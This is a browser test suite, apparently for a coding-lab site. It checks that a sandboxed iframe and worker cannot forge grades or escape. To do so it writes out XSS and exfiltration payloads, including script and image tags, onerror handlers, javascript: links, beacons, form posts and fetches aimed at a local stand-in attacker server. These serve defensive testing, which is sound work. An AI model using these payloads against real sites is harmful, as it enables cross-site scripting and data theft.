/**
 * What the page does when the sandbox itself is hostile: the worker's whole script is an attacker's, or the frame's
 * document is. The page believes nothing out of shape, shows text as text, and no way leads out of the frame.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { readMistake } from '../../src/cli/labs.ts';
import { LabPage, PHONE } from '../browser/lab-page.ts';
import { type DEEDS, HTML, hostileRuntime, serveRuntime, UNBELIEVABLE, WAYS_OUT } from './hostile-runtime.ts';
import { Watch } from './watch.ts';

const LAB = 'server-calculator';
/** An answer that leaves a requirement open, after which no scene is recorded. */
const { source: HONEST } = (await readMistake(LAB, 'names-every-parameter')).wrong;
const EARNED = '5½ of 6 marks';

test.use({ viewport: PHONE });

interface Attacker {
  address: string;
  /** Whoever connected, even without asking for anything. */
  connections: number;
  requests: string[];
  close(): void;
}

/** Somewhere on this machine where an attacker would listen. */
async function listen(): Promise<Attacker> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('1');
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  const { port } = server.address() as AddressInfo;
  const attacker = {
    address: `http://127.0.0.1:${port}/escaped`,
    connections: 0,
    requests,
    close: () => server.close(),
  };
  server.on('connection', () => attacker.connections++);
  server.on('upgrade', (request, socket) => {
    requests.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  return attacker;
}

async function openHostile(page: Page, baseURL: string | undefined, reached = ''): Promise<LabPage> {
  await serveRuntime(page, hostileRuntime(String(baseURL), reached));
  const lab = new LabPage(page);
  await lab.open(LAB);
  return lab;
}

/** The lab as a learner finds it without the attacker; whatever was stored before is still there. */
async function expectHonestRun(page: Page, before: string): Promise<void> {
  await page.unrouteAll();
  const lab = new LabPage(page);
  await lab.open(LAB);
  await expect(page.locator('.task-header [data-marks-of]').first()).toHaveText(before);
  await lab.type(HONEST);
  await lab.grade();
  await expect(lab.verdict).toContainText(EARNED);
}

const MADE = '.results :is(img, script, b, i, iframe, style, link, form, object, embed, [onclick], [onerror])';

test.describe('a worker that forges reports', () => {
  test.describe.configure({ mode: 'default' });
  let lab: LabPage;
  let watch: Watch;

  test.beforeAll(async ({ browser, baseURL }) => {
    const page = await browser.newPage({ viewport: PHONE });
    watch = new Watch(page);
    lab = await openHostile(page, baseURL);
    await lab.type('a number');
    await lab.grade();
    await expect(lab.saved).toHaveText('Saved in this browser');
    await watch.begin();
  });

  test.afterAll(() => lab.page.close());

  for (const name of Object.keys(UNBELIEVABLE)) {
    test(`is not believed: ${name}`, async () => {
      await lab.type(name);
      await lab.grade();
      await expect(lab.verdict).toContainText('This run was not valid');
      expect((await lab.verdict.textContent())?.length).toBeLessThan(300);
      await expect(lab.page.locator('.test')).toHaveCount(0);
      await expect(lab.page.locator(MADE)).toHaveCount(0);
      await watch.expectNothing();
    });
  }

  test('earns nothing by any of that, and the next page is as it was', async () => {
    await expectHonestRun(lab.page, '0');
  });
});

/**
 * In the page: what tells it of an error waits until the test lets it in. An error that a worker throws behind its answer goes another
 * way than that, and may come first.
 */
function holdTrouble(): void {
  const letIn = new Promise((resolve) => addEventListener('let-trouble-in', resolve));
  const own = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage') as PropertyDescriptor;
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...own,
    set(heard: (message: MessageEvent) => void) {
      own.set?.call(this, (message: MessageEvent) => {
        if (String(message.data).includes('Error: ')) letIn.then(() => heard(message));
        else heard(message);
      });
    },
  });
}

test.describe('a worker that misbehaves', () => {
  const deed = async (page: Page, baseURL: string | undefined, name: keyof typeof DEEDS): Promise<LabPage> => {
    const lab = await openHostile(page, baseURL);
    await lab.type(name);
    await lab.run.click();
    return lab;
  };

  for (const name of [
    'answers out of shape, then with full marks',
    'answers with a proxy to something of its own',
  ] as const) {
    test(`${name}: it is not believed`, async ({ page, baseURL }) => {
      const lab = await deed(page, baseURL, name);
      await expect(lab.verdict).toContainText('This run was not valid');
      await expectHonestRun(page, '0');
    });
  }

  const endings = [
    ['never answers', 'It was not your code that took so long: of that time it had less than a second.'],
    ['never answers, after seconds of the learner’s', 'Your code took 9 s of that.'],
    ['answers what was not asked', ''],
    ['closes itself', ''],
  ] as const;
  for (const [name, whose] of endings) {
    test(`${name}: the page ends it by its own clock`, async ({ page, baseURL }) => {
      await page.clock.install();
      const lab = await deed(page, baseURL, name);
      await expect(lab.verdict).toHaveText('Running: 1 of 2');
      await page.clock.fastForward(15_000);
      await expect(lab.verdict).toContainText(`Stopped after 15 s without a verdict. ${whose}`);
      await expectHonestRun(page, '0');
    });
  }

  test('asks the page for its own objects: nobody answers', async ({ page, baseURL }) => {
    const watch = new Watch(page);
    const lab = await deed(page, baseURL, 'asks the page');
    await lab.finished();
    await expect(page.locator('.test')).toContainText('asked in vain');
    watch.expectNoEscape();
    await expectHonestRun(page, '0');
  });

  test('talks nonsense: it is dropped', async ({ page, baseURL }) => {
    const lab = await deed(page, baseURL, 'talks nonsense');
    await lab.finished();
    await expect(page.locator('.test')).toContainText('nonsense was dropped');
    await expectHonestRun(page, '0');
  });

  test('shows HTML while it runs: numbers only', async ({ page, baseURL }) => {
    const lab = await deed(page, baseURL, 'shows HTML on its way');
    await expect(lab.verdict).toHaveText('Running: 1 of 2');
    await expect(page.locator(MADE)).toHaveCount(0);
    await lab.stop.click();
    await expect(lab.verdict).toContainText('Stopped by you');
    await expectHonestRun(page, '0');
  });

  test('never stops talking: it is removed, and the page can be used', async ({ page, baseURL }) => {
    const lab = await deed(page, baseURL, 'never stops talking');
    await expect(lab.verdict).toContainText('it never stops talking');
    await lab.type('a number');
    await lab.grade();
    await expect(lab.verdict).toContainText('This run was not valid');
    await expectHonestRun(page, '0');
  });

  test('breaks down: the page says so, as text', async ({ page, baseURL }) => {
    const lab = await deed(page, baseURL, 'breaks down');
    // Chromium says of an error that it is uncaught.
    await expect(lab.verdict).toContainText('The sandbox broke down (');
    await expect(lab.verdict).toContainText(`Error: ${HTML}). Nothing of yours is lost; run it again.`);
    await expect(page.locator(MADE)).toHaveCount(0);
    await expectHonestRun(page, '0');
  });

  test('breaks down between two runs: the next run has a sandbox of its own', async ({ page, baseURL }) => {
    await page.addInitScript(holdTrouble);
    const lab = await deed(page, baseURL, 'breaks down afterwards');
    await lab.finished();
    await expect(lab.verdict).not.toContainText('broke down');
    await page.evaluate(() => dispatchEvent(new Event('let-trouble-in')));
    await expect(page.locator('iframe')).toHaveCount(0);
    await lab.type('a number');
    await lab.grade();
    await expect(lab.verdict).toContainText('This run was not valid');
    await expectHonestRun(page, '0');
  });

  test('cannot start: the page says so, as text', async ({ page }) => {
    await serveRuntime(page, `throw new Error(${JSON.stringify(HTML)});`);
    const lab = new LabPage(page);
    await lab.open(LAB);
    await lab.type('x');
    await lab.grade();
    await expect(lab.verdict).toContainText(`The test runner could not start (Uncaught Error: ${HTML}).`);
    await expect(page.locator(MADE)).toHaveCount(0);
    await expectHonestRun(page, '0');
  });

  test('draws what has no size: the page is drawn all the same', async ({ page, baseURL }) => {
    const watch = new Watch(page);
    const lab = await deed(page, baseURL, 'draws what has no size');
    await lab.finished();
    await expect(page.locator('.space-time')).toHaveCount(2);
    watch.expectNoEscape();
    await expectHonestRun(page, '0');
  });

  for (const name of ['writes HTML in every field', 'writes HTML where nothing ran'] as const) {
    test(`${name}: all of it is text`, async ({ page, baseURL }) => {
      const watch = new Watch(page);
      const lab = await deed(page, baseURL, name);
      await lab.finished();
      await expect(page.locator('.results')).toContainText(HTML);
      await expect(page.locator(MADE)).toHaveCount(0);
      watch.expectNoEscape();
      for (const place of await page.getByRole('button', { name: 'Go to line' }).all()) await place.click();
      await expect(lab.plain).toHaveValue(name);
      await expectHonestRun(page, '0');
    });
  }
});

test.describe('the walls of the frame', () => {
  test('a hostile worker finds every way out refused', async ({ page, context, baseURL }) => {
    const attacker = await listen();
    try {
      // Two pages of the site: what one says to the other is what a forged message would have to look like.
      const other = await context.newPage();
      await other.goto('/labs/');
      const hear = (window: Page) =>
        window.evaluate(() => {
          const heard: string[] = [];
          Object.assign(globalThis, { heard });
          addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
          new BroadcastChannel('headroom-progress').addEventListener('message', ({ data }) =>
            heard.push(JSON.stringify(data)),
          );
        });
      const lab = await openHostile(page, baseURL, attacker.address);
      await hear(page);
      await hear(other);
      await lab.type('tries every way out');
      await lab.grade();

      const came = (await lab.verdict.textContent())?.split('; ') ?? [];
      expect(came).toHaveLength(Object.keys(WAYS_OUT).length);
      expect(came.filter((line) => !line.startsWith('refused '))).toEqual([]);
      expect(attacker.connections).toBe(0);

      await other.evaluate(() => new BroadcastChannel('headroom-progress').postMessage('the last word'));
      await expect
        .poll(() => page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard))
        .toContain('"the last word"');
      for (const window of [page, other]) {
        const heard = await window.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
        expect(heard.filter((text) => /escaped|forged/.test(text))).toEqual([]);
      }
      await expectHonestRun(page, '0');
    } finally {
      attacker.close();
    }
  });

  test('code on the frame’s own thread could not leave it either', async ({ page, baseURL }) => {
    const attacker = await listen();
    try {
      const watch = new Watch(page);
      const lab = new LabPage(page);
      await lab.open(LAB);
      await lab.type(HONEST);
      await lab.grade();
      const frame = page.frames().find((other) => other.parentFrame() !== null);
      const came = await frame?.evaluate(
        async ({ reached, site }) => {
          const element = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) =>
            Object.assign(document.createElement(name), fields);
          const loads = (made: HTMLElement): Promise<unknown> =>
            new Promise((load, refuse) => {
              made.onload = load;
              made.onerror = () => refuse(new Error('refused'));
              document.documentElement.append(made);
            });
          const blocked = (act: () => void): Promise<unknown> =>
            new Promise((_done, refuse) => {
              document.addEventListener('securitypolicyviolation', () => refuse(new Error('refused')), { once: true });
              act();
            });
          const ways: Record<string, () => unknown> = {
            'the page’s document': () => parent.document.title,
            'the page’s globals': () => (parent as unknown as { localStorage: Storage }).localStorage,
            'the address of the page': () => parent.location.href,
            'navigating the page': () => {
              (top as Window).location.href = `${site}/escaped`;
            },
            'a popup': () => {
              if (!open(reached)) throw new Error('refused');
            },
            cookies: () => document.cookie,
            localStorage: () => localStorage.length,
            sessionStorage: () => sessionStorage.length,
            IndexedDB: () => indexedDB.open('headroom'),
            caches: () => caches.open('escaped'),
            fetch: () => fetch(reached, { mode: 'no-cors' }),
            'a beacon': () => {
              return blocked(() => navigator.sendBeacon(reached, 'x'));
            },
            'an image': () => loads(element('img', { src: reached })),
            'an image of the site’s': () => loads(element('img', { src: `${site}/icon.svg` })),
            'a style sheet': () => loads(element('link', { rel: 'stylesheet', href: reached })),
            'a script': () => loads(element('script', { src: reached })),
            'a script of the site’s': () => loads(element('script', { src: `${site}/theme.js` })),
            'a script in the document': () =>
              blocked(() => document.head.append(element('script', { text: 'parent.postMessage(1, "*")' }))),
            'a handler in the markup': () =>
              blocked(() => {
                document.documentElement.insertAdjacentHTML(
                  'beforeend',
                  '<svg onload="parent.postMessage(1, \'*\')"></svg>',
                );
              }),
            'a frame': () => blocked(() => document.documentElement.append(element('iframe', { src: reached }))),
            'an object': () => blocked(() => document.documentElement.append(element('object', { data: reached }))),
            'a form': () =>
              blocked(() => {
                const form = element('form', { action: reached, method: 'post' });
                document.documentElement.append(form);
                form.submit();
              }),
            'a service worker': () => navigator.serviceWorker.register(`${site}/theme.js`),
            'the clipboard': () => navigator.clipboard.writeText('escaped'),
            'full screen': () => document.documentElement.requestFullscreen(),
          };
          const lines: string[] = [];
          for (const [name, way] of Object.entries(ways)) {
            try {
              await way();
              lines.push(`REACHED ${name}`);
            } catch {
              lines.push(`refused ${name}`);
            }
          }
          // These neither throw nor answer; the page would be told by the browser, and the watch hears it.
          alert('escaped');
          confirm('escaped');
          element('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'escaped' }).click();
          element('a', { href: reached, target: '_blank' }).click();
          return lines;
        },
        { reached: attacker.address, site: String(baseURL) },
      );
      expect(came?.filter((line) => !line.startsWith('refused '))).toEqual([]);
      expect(came?.length).toBeGreaterThan(20);

      await lab.grade();
      await expect(lab.verdict).toContainText(EARNED);
      expect(attacker.requests).toEqual([]);
      watch.expectNoEscape(attacker.address);
    } finally {
      attacker.close();
    }
  });

  test('a frame that takes itself elsewhere asks for nothing, and is only lost', async ({ page, baseURL }) => {
    const attacker = await listen();
    try {
      const lab = new LabPage(page);
      await lab.open(LAB);
      await lab.type(HONEST);
      await lab.grade();
      for (const address of [attacker.address, `${baseURL}/labs/`, 'data:text/html,x', 'about:blank']) {
        const frame = page.frames().find((other) => other.parentFrame() !== null);
        const lost = page.waitForEvent('framenavigated', (other) => other.parentFrame() !== null);
        await frame?.evaluate((to) => location.assign(to), address).catch(() => {});
        expect((await lost).url()).toMatch(/^(chrome-error|about:blank)/);
        // Its worker is gone with it: the run that finds out is ended by hand here, by the page's clock otherwise.
        await lab.run.click();
        await lab.stop.click();
        await expect(lab.verdict).toContainText('Stopped by you');
        await lab.grade();
        await expect(lab.verdict).toContainText(EARNED);
      }
      expect(attacker.requests).toEqual([]);
    } finally {
      attacker.close();
    }
  });

  /** What a stranger who can answer for the host would write: every way in which a document runs script or asks for something. */
  const hostile = (address: string): string => {
    const script = `parent.postMessage('escaped', '*'); new Image().src = ${JSON.stringify(address)};`;
    const quoted = script.replaceAll('"', "'");
    return `<base href="${address}/">
      <script>${script}</script>
      <script src="${address}"></script>
      <body onload="${quoted}">
      <img src="${address}" onerror="${quoted}">
      <link rel="stylesheet" href="${address}">
      <iframe src="${address}"></iframe>
      <iframe srcdoc="<script>parent.parent.postMessage('escaped', '*')</script>"></iframe>
      <object data="${address}"></object><embed src="${address}">
      <video src="${address}" autoplay></video>
      <style>@import "${address}"; body { background: url(${address}) }</style>
      <a href="javascript:${quoted}" autofocus>x</a>
      <meta http-equiv="refresh" content="0;url=${address}">`;
  };
  /** It begins as ours does, and allows itself everything: what holds then is what it inherits from the page. */
  const OURS =
    '<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src \'none\'; ';
  for (const { title, start, reason } of [
    {
      title: 'another document in place of the frame’s is refused before it is one',
      start: '<!doctype html><meta charset="utf-8">',
      reason: 'its document is not this site’s',
    },
    {
      title: 'a document that begins as the frame’s does and goes on with other scripts runs none of them',
      start: `${OURS}script-src 'unsafe-inline' 'unsafe-eval' *; img-src *; frame-src *">`,
      reason: 'it did not answer',
    },
  ]) {
    test(title, async ({ page }) => {
      const attacker = await listen();
      try {
        await page.clock.install();
        const refused: string[] = [];
        page.on('console', (message) => refused.push(message.text()));
        await page.route('**/sandbox/frame.txt*', (route) =>
          route.fulfill({ contentType: 'text/plain', body: `${start}${hostile(attacker.address)}` }),
        );
        const lab = new LabPage(page);
        await lab.open(LAB);
        await page.evaluate(() => {
          Object.assign(globalThis, { heard: [] });
          addEventListener('message', ({ data }) => (globalThis as unknown as { heard: unknown[] }).heard.push(data));
        });
        await lab.type(HONEST);
        await lab.run.click();
        if (reason === 'it did not answer') {
          await expect.poll(() => refused.join('\n')).toMatch(/inline script/);
          await expect.poll(() => refused.join('\n')).toMatch(/frame-src/);
          // Its clock runs from when all that it is to run has been loaded.
          const verdictLater = async () => {
            await page.clock.fastForward(20_000);
            return lab.verdict.textContent();
          };
          await expect.poll(verdictLater).toContain(reason);
        }
        await expect(lab.verdict).toContainText(`The test runner could not start (${reason})`);
        expect(await page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard)).toEqual([]);
        expect(attacker.requests).toEqual([]);
        expect(page.url()).toContain(`/labs/${LAB}/`);
        await expectHonestRun(page, '0');
      } finally {
        attacker.close();
      }
    });
  }
});

test('the watch itself sees what it is there to see', async ({ page }) => {
  const watch = new Watch(page);
  const lab = new LabPage(page);
  await lab.open(LAB);
  await lab.type(HONEST);
  await lab.grade();
  await watch.begin();
  await watch.expectNothing();
  const deeds: (() => unknown)[] = [
    () => fetch('/escaped'),
    () => alert('escaped'),
    () => localStorage.setItem('escaped', '1'),
    () => Object.assign(window, { escaped: 1 }),
    () => history.pushState(null, '', '?escaped'),
    () => new Promise<unknown>((done) => indexedDB.open('escaped').addEventListener('success', () => done(0))),
  ];
  for (const deed of deeds) {
    await page.evaluate(deed);
    await expect(watch.expectNothing(), String(deed)).rejects.toThrow();
    await watch.begin();
  }
});
